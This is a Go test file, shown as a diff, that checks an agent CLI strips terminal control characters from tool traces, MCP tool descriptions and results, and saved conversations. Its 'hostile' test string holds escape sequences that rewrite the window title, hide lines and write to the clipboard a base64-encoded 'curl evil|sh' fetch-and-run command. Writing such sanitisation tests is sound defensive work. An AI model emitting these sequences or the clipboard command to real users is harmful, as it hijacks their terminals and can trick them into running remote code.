@@ -1,0 +1,107 @@
+package agentcli
+
+import (
+	"bytes"
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+	"github.com/toolreg/toolreg/chat"
+	"github.com/toolreg/toolreg/internal/termmd"
+	"github.com/toolreg/toolreg/tool"
+)
+
+// hostile is text a mounted server (or a model) sends to be shown at the
+// terminal: OSC 52 writes the clipboard, OSC 0 the window title, CSI
+// erases the line and moves the cursor, and 0x9b is a C1 CSI.
+const hostile = "fine\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;pwned\x07\x1b[2K\x1b[1A\u009b8m\x9b8m\rhidden"
+
+// noControls fails when out holds an escape or another control
+// character but newline, which a terminal would act on.
+func noControls(t *testing.T, what, out string) {
+	t.Helper()
+	for _, r := range out {
+		if r < 0x20 && r != '\n' || r >= 0x7f && r < 0xa0 {
+			t.Errorf("%s holds the control character %U: %q", what, r, out)
+			return
+		}
+	}
+	if strings.Contains(out, "\x9b") {
+		t.Errorf("%s holds a lone 0x9b: %q", what, out)
+	}
+}
+
+// TestTraceDropsControls: what the trace on stderr quotes of a tool call
+// (its arguments, its result, its progress message, a retry's error) and
+// what agent tools shows of a mounted tool (its description) cannot drive
+// the terminal, with or without the Markdown renderer.
+func TestTraceDropsControls(t *testing.T) {
+	for _, md := range []*termmd.Renderer{nil, {Width: 80}} {
+		var stdout, stderr bytes.Buffer
+		o := &output{stdout: &stdout, stderr: &stderr, terminal: true, md: md}
+		o.event(chat.Event{Type: chat.EventToolCall, Tool: "w__fetch", Args: `{"url":"` + hostile + `"}`})
+		o.event(chat.Event{Type: chat.EventToolResult, Tool: "w__fetch", Result: hostile})
+		o.event(chat.Event{Type: chat.EventToolResult, Tool: "w__fetch", Result: "Error: " + hostile})
+		o.event(chat.Event{Type: chat.EventRetry, Attempt: 1, Error: hostile})
+		ctx := tool.WithProgress(tool.WithCall(context.Background(), tool.Call{ID: "c1", Tool: "w__fetch"}), o.progress)
+		tool.Progress(ctx, 1, 1, hostile)
+		o.finish("")
+		if !strings.Contains(stderr.String(), "fine") || !strings.Contains(stderr.String(), "hidden") {
+			t.Errorf("md %v: the trace lost the text: %q", md != nil, stderr.String())
+		}
+		noControls(t, "the trace", stderr.String())
+	}
+
+	srv := mcp.NewServer(&mcp.Implementation{Name: "w", Version: "v0"}, nil)
+	mcp.AddTool(srv, &mcp.Tool{Name: "fetch", Description: "Fetch " + hostile + " a page.\nMore " + hostile},
+		func(ctx context.Context, req *mcp.CallToolRequest, args struct{}) (*mcp.CallToolResult, any, error) {
+			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: hostile}}}, nil, nil
+		})
+	mcp.AddTool(srv, &mcp.Tool{Name: "fail", Description: "Fail."},
+		func(ctx context.Context, req *mcp.CallToolRequest, args struct{}) (*mcp.CallToolResult, any, error) {
+			return &mcp.CallToolResult{IsError: true, Content: []mcp.Content{&mcp.TextContent{Text: hostile}}}, nil, nil
+		})
+	ts := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, &mcp.StreamableHTTPOptions{Stateless: true, JSONResponse: true}))
+	defer ts.Close()
+	{
+		var stdout, stderr lockedBuffer
+		c := &cli{tools: testTools, stdin: strings.NewReader(""), stdout: &stdout, stderr: &stderr, getenv: func(string) string { return "" }}
+		code := c.run(context.Background(), []string{"call", "-yes", "-tools", "calculator", "-mcp", "w=" + ts.URL, "w__fail", "{}"})
+		if code != 1 || !strings.Contains(stderr.String(), "hidden") {
+			t.Errorf("agent call w__fail: exit %d, stderr %q", code, stderr.String())
+		}
+		noControls(t, "agent call's error", stderr.String())
+	}
+	for _, args := range [][]string{{"tools"}, {"tools", "w__fetch"}} {
+		var stdout, stderr lockedBuffer
+		c := &cli{tools: testTools, stdin: strings.NewReader(""), stdout: &stdout, stderr: &stderr, getenv: func(string) string { return "" }}
+		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+		code := c.run(ctx, append([]string{args[0], "-tools", "calculator", "-mcp", "w=" + ts.URL}, args[1:]...))
+		cancel()
+		if code != 0 || !strings.Contains(stdout.String(), "w__fetch") {
+			t.Errorf("agent %s: exit %d, stdout %q, stderr %q", args, code, stdout.String(), stderr.String())
+		}
+		noControls(t, "agent "+strings.Join(args, " "), stdout.String())
+	}
+}
+
+// TestKeptConversationDropsControls: agent log ID shows a kept
+// conversation as the session showed it: the model's answer (which an
+// injected prompt may fill with escape sequences) and the question
+// without their control characters.
+func TestKeptConversationDropsControls(t *testing.T) {
+	k := keptConv{path: "c.jsonl", records: []record{
+		{Message: chat.Message{Role: chat.RoleUser, Content: "look at " + hostile}},
+		{Message: chat.Message{Role: chat.RoleAssistant, Content: "The page says " + hostile}},
+	}}
+	var out bytes.Buffer
+	writeConversation(&out, k)
+	if !strings.Contains(out.String(), "The page says fine") {
+		t.Errorf("the answer is lost: %q", out.String())
+	}
+	noControls(t, "agent log ID", out.String())
+}
